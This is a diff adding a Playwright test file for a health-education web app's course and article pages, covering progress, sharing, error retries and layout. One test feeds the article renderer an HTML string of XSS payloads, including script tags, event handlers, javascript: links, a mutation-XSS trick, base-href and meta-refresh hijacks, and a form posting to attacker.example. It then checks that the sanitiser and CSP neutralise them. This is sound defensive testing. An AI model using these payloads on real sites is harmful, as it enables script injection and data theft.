@@ -1,0 +1,281 @@
+import type { Page } from '@playwright/test';
+import { test as base, entry } from './device.ts';
+import { expect, expectAccessible } from './test.ts';
+
+const article = '/information/app/article/html-content';
+const course = '/information/app/v1/course/detail';
+
+const test = base.extend({ timezoneId: 'Asia/Shanghai' });
+
+/** How far the screen's own area is scrolled. */
+const scrolled = (page: Page) => page.locator('main').evaluate((main) => Math.round(main.scrollTop));
+
+for (const colorScheme of ['light', 'dark'] as const) {
+  test.describe(colorScheme, () => {
+    test.use({ colorScheme });
+
+    test('a course is gone through from one part to the next', async ({ page, open, words }) => {
+      await open('/course?courseId=course-6101');
+      await expect(page.getByRole('heading', { level: 2, name: '体重管理四讲' })).toBeVisible();
+      await expect(page.getByText('注册营养师')).toBeVisible();
+      await expect(page.getByText(words('13 minutes', '13 分钟'))).toBeVisible();
+      const progress = page.getByRole('progressbar', { name: words('Read so far', '学习进度') });
+      await expect(progress).toHaveAttribute('aria-valuenow', '35');
+      await expect(page.getByText(words('1 of 4 parts finished', '已学完 1/4 节'))).toBeVisible();
+
+      const parts = page.getByRole('list', { name: words('Parts', '课程目录') }).getByRole('listitem');
+      await expect(parts.nth(0)).toContainText(words('Finished', '已学完'));
+      await expect(parts.nth(1)).toContainText(words('40% read', '已读 40%'));
+      await expect(parts.nth(2)).toContainText(words('Opens once part 2 is finished', '学完第 2 节后解锁'));
+      await expect(parts.getByRole('link')).toHaveCount(2);
+      await expectAccessible(page);
+
+      // What is read to its end opens the next part.
+      await page.getByRole('link', { name: words('Go on with part 2', '继续学习第 2 节') }).click();
+      await expect(page.getByRole('heading', { level: 2, name: '一盘饭的比例' })).toBeVisible();
+      await expect(page.getByText(words('Part 2 of 4', '第 2 节，共 4 节'))).toBeVisible();
+      const ways = page.getByRole('navigation', { name: words('Parts of the course', '课程章节') });
+      await page.getByText('本文用于健康科普').scrollIntoViewIfNeeded();
+      await expect(ways.getByRole('link', { name: words('Previous part', '上一节') })).toContainText('早晚差一公斤');
+      await expectAccessible(page);
+      await ways.getByRole('link', { name: words('Next part', '下一节') }).click();
+      await expect(page.getByText(words('Part 3 of 4', '第 3 节，共 4 节'))).toBeVisible();
+      expect(await scrolled(page)).toBe(0);
+
+      await page.getByRole('link', { name: '体重管理四讲' }).click();
+      await expect(progress).toHaveAttribute('aria-valuenow', '75');
+      await page.getByRole('link', { name: words('Go on with part 4', '继续学习第 4 节') }).click();
+      await expect(page.getByText(words('That was the last part', '这是课程的最后一节'))).toBeAttached();
+      await page.getByRole('link', { name: words('Back to the course', '返回课程') }).click();
+      await expect(page.getByText(words('You have finished this course.', '你已学完这门课程。'))).toBeVisible();
+      await expect(page.getByRole('link', { name: /Go on|Start|继续学习|开始学习/ })).toHaveCount(0);
+    });
+
+    test('an article is read by the keyboard, and its picture looked at', async ({ page, open, words }) => {
+      await open('/article?articleId=article-6001');
+      await expect(page.getByRole('heading', { level: 2 }).first()).toHaveText('早晚差一公斤，不等于胖了一公斤');
+      await expect(page.getByText('许安然')).toBeVisible();
+      await expect(page.getByText('注册营养师')).toBeVisible();
+      await expect(page.getByText(words('November 12, 2026', '2026年11月12日'))).toBeVisible();
+      await expect(page.getByText(words('4 minutes to read', '阅读约 4 分钟'))).toBeVisible();
+      await expect(page.getByRole('cell', { name: '同一台，放在硬而平的地面上' })).toBeAttached();
+      await expectAccessible(page);
+
+      await page.keyboard.press('PageDown');
+      await expect.poll(() => scrolled(page)).toBeGreaterThan(100);
+      expect(await page.evaluate(() => [scrollY, document.scrollingElement?.scrollHeight === innerHeight])).toEqual([
+        0,
+        true,
+      ]);
+
+      const shows = '每天的体重上下起伏，七天平均线缓缓下降';
+      const picture = page.getByRole('button').filter({ has: page.getByRole('img', { name: shows }) });
+      await picture.click();
+      const viewer = page.getByRole('dialog', { name: words('Picture 1 of 1', '图片 1/1') });
+      await expect(viewer.getByText(shows)).toBeVisible();
+      await viewer.getByRole('button', { name: words('Enlarge', '放大') }).click();
+      await expect(viewer.getByRole('button', { name: words('Fit to the screen', '适应屏幕') })).toBeVisible();
+      await expectAccessible(page);
+      await page.keyboard.press('Escape');
+      await expect(viewer).toBeHidden();
+      await expect(picture).toBeFocused();
+    });
+  });
+}
+
+test('what a text from elsewhere hides does not run, and nothing is fetched for it', async ({
+  page,
+  open,
+  words,
+  expectErrors,
+}) => {
+  // The policy says no already where the text is parsed.
+  expectErrors(/Content Security Policy/);
+  const strangers: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).host !== new URL(process.env.WEB_URL as string).host) strangers.push(request.url());
+  });
+  const html = `
+    <h2 onclick="window.ran = 'h2'" style="position:fixed">这一段应当留下</h2>
+    <script>window.ran = 'script'</script>
+    <img src="/none.svg" alt="没有的图片" onerror="window.ran = 'onerror'">
+    <img src="https://attacker.example/pixel.png" alt="外来的图片" srcset="https://attacker.example/2x.png 2x">
+    <style>@import 'https://attacker.example/style.css'; body { display: none }</style>
+    <link rel="stylesheet" href="https://attacker.example/style.css">
+    <iframe src="https://attacker.example/frame" srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
+    <video src="https://attacker.example/video" poster="https://attacker.example/poster" autoplay></video>
+    <object data="https://attacker.example/plugin"></object>
+    <svg onload="window.ran = 'svg'"><image href="https://attacker.example/image"/><script>window.ran = 'svg script'</script></svg>
+    <math><mtext><style><img src=x onerror="window.ran = 'math'"></style></mtext></math>
+    <form action="https://attacker.example/collect"><input name="phone" autofocus onfocus="window.ran = 'focus'"><button>提交</button></form>
+    <meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/">
+    <p style="background:url(https://attacker.example/background)">
+      <a href="javascript:window.ran = 'link'">脚本链接</a> <a href="//attacker.example/">外来链接</a>
+      <a href="https://health-app.example/">普通链接</a>
+    </p>
+    <p>最后这一段也应当留下。</p>`;
+  const text = { articleId: 'article-6002', title: '样例', summary: '', author: '内容测试', authorTitle: '' };
+  const data = { ...text, publishedAt: '2026-11-01T09:00:00+08:00', cover: null, minutes: 1, html };
+  await page.route(`**/api${article}*`, (route) => route.fulfill({ json: { success: true, data } }));
+  await page.route('**/none.svg', (route) => route.fulfill({ contentType: 'image/svg+xml', body: 'not a picture' }));
+  await open('/article?articleId=article-6002');
+
+  await expect(page.getByText('最后这一段也应当留下。')).toBeVisible();
+  await page.getByRole('heading', { name: '这一段应当留下' }).click();
+  await expect(page.locator('main').getByRole('link')).toHaveText(['普通链接']);
+  await expect(page.getByRole('heading', { name: '这一段应当留下' })).toHaveCSS('position', 'static');
+  await expect(
+    page.locator('main').locator('script, style, link, iframe, video, object, svg image, form, input'),
+  ).toHaveCount(0);
+  expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
+  expect(page.url()).toContain('/article?articleId=article-6002');
+  expect(strangers).toEqual([]);
+  await expectAccessible(page);
+  await expect(page.getByText(words('1 minute to read', '阅读约 1 分钟'))).toBeVisible();
+});
+
+test('an article is shared under its short address', async ({ page, open }) => {
+  await page.addInitScript(() => {
+    const shared: ShareData[] = [];
+    Object.assign(window, { shared });
+    navigator.share = async (data) => void shared.push(data ?? {});
+  });
+  const link = page.waitForResponse(/getShortLink/);
+  await open('/article?articleId=article-6001&courseId=course-6101');
+  const { data } = await (await link).json();
+  expect(new URL(data.url).search).toBe('?articleId=article-6001');
+  await page.getByRole('button', { name: /^(Share|分享)$/ }).click();
+  await expect
+    .poll(() => page.evaluate(() => (window as unknown as { shared: ShareData[] }).shared))
+    .toEqual([{ title: '早晚差一公斤，不等于胖了一公斤', url: data.shortUrl }]);
+});
+
+test('without a short address and a panel, its own address is copied', async ({
+  page,
+  open,
+  answer,
+  words,
+  expectErrors,
+}) => {
+  expectErrors(/status of 500/);
+  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+  await page.addInitScript(() => Object.assign(navigator, { share: undefined }));
+  await answer('/information/app/scrm/getShortLink', 500);
+  await open('/article?articleId=article-6007');
+  await page.getByRole('button', { name: words('Share', '分享'), exact: true }).click();
+  await expect(page.getByText(words('copied successfully', '复制成功'))).toBeVisible();
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toMatch(/\/article\?articleId=article-6007$/);
+});
+
+for (const [path, call, id] of [
+  ['/article', article, 'articleId=article-6001'],
+  ['/course', course, 'courseId=course-6101'],
+] as const) {
+  test(`${path} says what fails, tries again, and leads on from an address that names nothing`, async ({
+    page,
+    open,
+    answer,
+    words,
+    expectErrors,
+  }) => {
+    expectErrors(/status of 500/);
+    await answer(call, 500);
+    await open(`${path}?${id}`);
+    const retry = page.getByRole('button', { name: words('Try again', '重试') });
+    await expect(retry).toBeVisible();
+    await answer(call, undefined);
+    await retry.click();
+    await expect(page.getByRole('heading', { level: 2 }).first()).toBeVisible();
+
+    await answer(call, 'failGone');
+    await open(`${path}?${id.replace(/\d+$/, '0')}`);
+    await expect(page.getByRole('alert')).toContainText('不存在或已下架');
+
+    await answer(call, undefined);
+    await open(path);
+    await expect(page.getByText(words('This address names no', '这个地址没有指明'))).toBeVisible();
+    await expectAccessible(page);
+    await page.locator('main').getByRole('link').first().click();
+    await expect(page).toHaveURL(new RegExp(`${path}\\?${id.split('=')[0]}=`));
+    await expect(page.getByRole('heading', { level: 2 }).first()).toBeVisible();
+  });
+}
+
+test('nothing moves as a screen and its pictures arrive', async ({ page, open }) => {
+  await page.addInitScript(() => {
+    Object.assign(window, { moved: 0 });
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries())
+        (window as unknown as { moved: number }).moved += (entry as unknown as { value: number }).value;
+    }).observe({ type: 'layout-shift', buffered: true });
+  });
+  const free: (() => void)[] = [];
+  const hold = () => new Promise<void>((resolve) => free.push(resolve));
+  await page.route(/\/(articles|api\/(information|scheme))\//, async (route) => {
+    await hold();
+    await route.continue();
+  });
+  const addresses = {
+    '/article?articleId=article-6008&courseId=course-6101': '一盘饭的比例',
+    '/course?courseId=course-6101': '体重管理四讲',
+    '/evaluate': '减重期',
+  };
+  for (const [address, title] of Object.entries(addresses)) {
+    await open(address);
+    await expect(page.getByRole('status', { name: /Loading|加载中/ }).first()).toBeVisible();
+    await expect(async () => {
+      for (const go of free.splice(0)) go();
+      await expect(page.getByRole('heading', { level: 2, name: title })).toBeVisible({ timeout: 500 });
+    }).toPass();
+    await expect(async () => {
+      for (const go of free.splice(0)) go();
+      expect(await page.evaluate(() => [...document.images].every(({ complete }) => complete))).toBe(true);
+    }).toPass();
+    expect(await page.evaluate(() => (window as unknown as { moved: number }).moved)).toBeLessThan(0.01);
+  }
+});
+
+for (const platform of ['ios', 'android']) {
+  test(`the bar is green, and the article alone scrolls: ${platform}`, async ({ device, page, words }) => {
+    // The apps take pictures by https alone.
+    const picture = 'https://img.health-app.example/weight-trend.svg';
+    await page.route(`**${article}*`, async (route) => {
+      const reply = await route.fetch();
+      await route.fulfill({
+        response: reply,
+        body: (await reply.text()).replace(/\/articles\/[\w-]+\.svg/g, picture),
+      });
+    });
+    await page.route(picture, (route) =>
+      route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
+    );
+    const { app } = await device({ platform, path: '/article?articleId=article-6001' });
+    const phone = page.getByRole('region', { name: words('Phone', '手机') });
+    await expect(app.getByRole('heading', { name: '看趋势，不看单日' })).toBeAttached();
+    await expect(phone.locator('.bar')).toHaveCSS('background-color', 'rgb(11, 115, 69)');
+    await expect(phone.locator('.bar')).toHaveCSS('color', 'rgb(255, 255, 255)');
+    await expect(phone.locator('.bar-title')).toHaveText(words('Article', '文章'));
+    await expect(app.locator('html')).toHaveCSS('overflow', 'hidden');
+
+    const own = app.locator('html');
+    const area = app.locator('main');
+    await area.hover();
+    await page.mouse.wheel(0, 400);
+    await expect.poll(() => area.evaluate((main) => main.scrollTop)).toBeGreaterThan(100);
+    expect(await own.evaluate((html) => [html.scrollTop, html.scrollHeight - html.clientHeight])).toEqual([0, 0]);
+
+    // Pictures and sharing are the app's.
+    await app
+      .getByRole('button')
+      .filter({ has: app.getByRole('img', { name: /七天平均线/ }) })
+      .click();
+    await expect(entry(page, 'previewImage')).toContainText('ok');
+    await expect(app.getByRole('dialog')).toHaveCount(0);
+    await app.getByRole('button', { name: words('Share', '分享'), exact: true }).click();
+    const dialog = page.getByRole('dialog');
+    await expect(dialog).toContainText('早晚差一公斤，不等于胖了一公斤');
+    await expect(dialog).toContainText('https://s.health-app.example/');
+    await dialog.getByRole('button', { name: words('To a friend', '发给好友') }).click();
+    await expect(entry(page, 'sharePanel')).toContainText('ok');
+  });
+}
